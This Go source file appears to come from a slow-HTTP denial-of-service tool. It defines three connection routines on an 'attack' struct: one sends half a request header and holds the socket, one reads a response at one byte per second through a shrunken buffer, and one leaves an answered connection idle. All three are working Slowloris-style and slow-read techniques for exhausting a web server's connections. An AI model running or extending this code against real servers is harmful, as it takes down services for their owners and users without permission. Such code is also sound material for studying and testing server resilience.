package main

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"time"
)

// halfHeader sends half a header and waits for what comes of it.
func halfHeader(_ context.Context, a *attack, conn net.Conn) error {
	a.sent.Add(1)
	if _, err := fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: l", a.target.path); err != nil {
		return err
	}
	_, err := io.Copy(io.Discard, conn)
	return err
}

// slowReader asks for something large and takes a byte a second of it.
func slowReader(ctx context.Context, a *attack, conn net.Conn) error {
	if tcp, ok := conn.(*net.TCPConn); ok {
		_ = tcp.SetReadBuffer(4 << 10) // with a large one it would hold the most itself
	}
	a.sent.Add(1)
	if _, err := fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: %s\r\n\r\n", a.target.path, a.target.address); err != nil {
		return err
	}
	for one := make([]byte, 1); ; {
		if _, err := conn.Read(one); err != nil {
			return err
		}
		if err := pause(ctx, time.Second); err != nil {
			return err
		}
	}
}

// idle asks once and then keeps the connection.
func idle(_ context.Context, a *attack, conn net.Conn) error {
	a.sent.Add(1)
	if _, err := fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: %s\r\n\r\n", a.target.path, a.target.address); err != nil {
		return err
	}
	response, err := http.ReadResponse(bufio.NewReaderSize(conn, 1<<10), nil)
	if err != nil {
		return err
	}
	a.answered(response.StatusCode)
	if _, err := io.Copy(io.Discard, response.Body); err != nil {
		return err
	}
	_, err = io.Copy(io.Discard, conn)
	return err
}
